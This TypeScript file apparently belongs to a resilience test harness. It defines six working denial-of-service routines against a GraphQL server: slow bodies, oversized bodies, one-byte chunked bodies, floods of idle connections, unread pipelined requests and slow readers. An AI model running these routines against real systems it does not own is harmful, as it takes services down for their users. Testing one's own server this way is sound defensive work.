// Attacks by HTTP connections.
import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { type Attack, count, headersOf, type Target } from './attack.ts'

function open({ origin }: Target, answers: ReturnType<typeof count>): Socket {
  const { hostname, port } = new URL(origin)
  const socket = connect(Number(port), hostname)
  socket.on('error', () => undefined)
  socket.on('data', (data: Buffer) => {
    const text = data.toString('latin1')
    if (text.startsWith('HTTP/1.1 ')) answers.add(text.slice(9, 12))
  })
  return socket
}

const openOf = (sockets: readonly Socket[]): number => sockets.filter(({ closed }) => !closed).length

const postHead = (target: Target, length: number): string =>
  [
    'POST /graphql HTTP/1.1',
    'host: localhost',
    'content-type: application/json',
    `content-length: ${length}`,
    `authorization: ${headersOf(target).authorization}`,
    '\r\n',
  ].join('\r\n')

/** The headers of 1,100 requests, and a byte of each body now and then. */
const slowBodies: Attack = {
  // As many requests a minute as two callers may send by default.
  environment: { RATE_LIMIT_PER_MINUTE: '1200' },
  async run(target, signal) {
    const answers = count()
    const sockets = Array.from({ length: 1100 }, () => {
      const socket = open(target, answers)
      socket.write(`${postHead(target, 90_000)}{`)
      return socket
    })
    while (!signal.aborted) {
      for (const socket of sockets) if (socket.writable) socket.write(' ')
      await pause(500)
    }
    const held = openOf(sockets)
    for (const socket of sockets) socket.destroy()
    return `1100 opened, ${held} left; ${answers.words()}`
  },
}

/** 590 bodies of 1 MB, all but their last byte. */
const largeBodies: Attack = {
  async run(target, signal) {
    const answers = count()
    const most = Buffer.alloc(999_998, ' ')
    const sockets: Socket[] = []
    for (let at = 0; at < 590 && !signal.aborted; at += 1) {
      const socket = open(target, answers)
      socket.write(postHead(target, most.length + 1))
      socket.write(most)
      sockets.push(socket)
      await pause(15)
    }
    if (!signal.aborted) await once(signal, 'abort')
    const held = openOf(sockets)
    for (const socket of sockets) socket.destroy()
    return `${sockets.length} opened, ${held} left; ${answers.words()}`
  },
}

/** Bodies whose bytes are each a separate part. */
const singleBytes: Attack = {
  async run(target, signal) {
    const answers = count()
    const sockets: Socket[] = []
    const parts = Buffer.from('1\r\n \r\n'.repeat(500_000))
    for (let at = 0; at < 590 && !signal.aborted; at += 1) {
      const socket = open(target, answers)
      socket.write(postHead(target, 0).replace('content-length: 0', 'transfer-encoding: chunked'))
      socket.write(parts)
      sockets.push(socket)
      await pause(100)
    }
    if (!signal.aborted) await once(signal, 'abort')
    for (const socket of sockets) socket.destroy()
    return `${sockets.length} opened; ${answers.words()}`
  },
}

/** Connections on which nothing is sent. */
const idleConnections: Attack = {
  async run(target, signal) {
    const answers = count()
    const sockets: Socket[] = []
    while (!signal.aborted) {
      if (sockets.length < 14_000) for (let at = 0; at < 20; at += 1) sockets.push(open(target, answers))
      await pause(20)
    }
    const held = openOf(sockets)
    for (const socket of sockets) socket.destroy()
    return `${sockets.length} opened, ${held} left; ${answers.words()}`
  },
}

/** Many requests on one connection, whose answers are not read. */
const pipelining: Attack = {
  async run(target, signal) {
    const answers = count()
    const requests = Buffer.from('GET /graphql?query={__typename} HTTP/1.1\r\nhost: localhost\r\n\r\n'.repeat(500))
    const sockets: Socket[] = []
    let sent = 0
    while (!signal.aborted) {
      if (openOf(sockets) < 50) sockets.push(open(target, answers).pause())
      for (const socket of sockets) {
        if (!socket.writable || socket.writableNeedDrain) continue
        socket.write(requests)
        sent += 500
      }
      await pause(20)
    }
    for (const socket of sockets) socket.destroy()
    return `${sent} requests on ${sockets.length} connections`
  },
}

/** Large answers that are read at one byte now and then. */
const slowReaders: Attack = {
  async run(target, signal) {
    const answers = count()
    const page = (at: number) => `f${at}: transactions(first: 100) { nodes { ...Wide } }`
    const fields = Array.from({ length: 20 }, (_, at) => page(at)).join(' ')
    const wide = 'a: description b: description c: description metadata rawStatus id'
    const query = `{ ${fields} } fragment Wide on Transaction { ${wide} }`
    const body = JSON.stringify({ query })
    const sockets: Socket[] = []
    for (let at = 0; at < 590 && !signal.aborted; at += 1) {
      const socket = open(target, answers).pause()
      socket.write(`${postHead(target, body.length)}${body}`)
      sockets.push(socket)
      await pause(100)
    }
    if (!signal.aborted) await once(signal, 'abort')
    const held = openOf(sockets)
    for (const socket of sockets) socket.destroy()
    return `${sockets.length} answers, ${held} connections left`
  },
}

export const connectionAttacks = {
  'slow bodies': slowBodies,
  'large bodies': largeBodies,
  'bodies of single bytes': singleBytes,
  'idle connections': idleConnections,
  'pipelined requests': pipelining,
  'slow readers': slowReaders,
} as const satisfies Readonly<Record<string, Attack>>
